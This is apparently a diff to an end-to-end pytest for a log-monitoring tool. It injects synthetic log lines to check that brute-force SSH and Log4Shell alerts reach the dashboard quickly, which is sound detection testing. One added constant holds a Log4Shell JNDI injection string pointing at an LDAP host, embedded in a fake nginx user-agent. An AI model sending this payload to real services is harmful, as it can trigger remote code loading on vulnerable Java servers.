@@ -13,6 +13,8 @@ from tests.receiving import Rsyslog, until
 
 pytestmark = [pytest.mark.journey, pytest.mark.timeout(240)]
 OWNER = "Cục Mẫu về An toàn thông tin (dữ liệu mẫu)"
+GUESSED = "Dò mật khẩu qua SSH"  # Vigil's own rules, as they come with the program
+LOG4SHELL = "${jndi:ldap://203.0.113.9/a}"
 RULE = """
 title: Someone knocks
 id: 0b3f8d5e-77a1-4a53-9d04-3e1a5b1c2d3e
@@ -70,10 +72,18 @@ def test_from_a_log_line_to_a_closed_alert(detecting: Detecting, page, shot, sig
         row = page.locator(".alert-row", has_text="Someone knocks").first
         row.wait_for(timeout=5_000)
         took = time.monotonic() - began
+        guesses = [f"Failed password for root from 198.51.100.9 port {50000 + n} ssh2" for n in range(12)]
+        rsyslog.log(*guesses, tag="sshd[4242]")
+        began = time.monotonic()
+        page.locator(".alert-row", has_text=GUESSED).first.wait_for(timeout=5_000)
+        shipped = time.monotonic() - began
+        at = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
+        rsyslog.log(f'198.51.100.9 - - [{at}] "GET / HTTP/1.1" 404 0 "-" "{LOG4SHELL}"', tag="nginx")
+        page.locator(".alert-row", has_text="Dấu hiệu khai thác Log4Shell").first.wait_for(timeout=5_000)
     finally:
         rsyslog.stop()
-    print(f"\nfrom the log line to the board: {took:.1f} s")
-    assert took < 5
+    print(f"\nfrom the log line to the board: {took:.1f} s; to an alert of Vigil's own rules: {shipped:.1f} s")
+    assert took < 5 and shipped < 5
     shot("alerts")
     shot("alerts", width=390)
     row.get_by_role("button", name="Nhận").click()
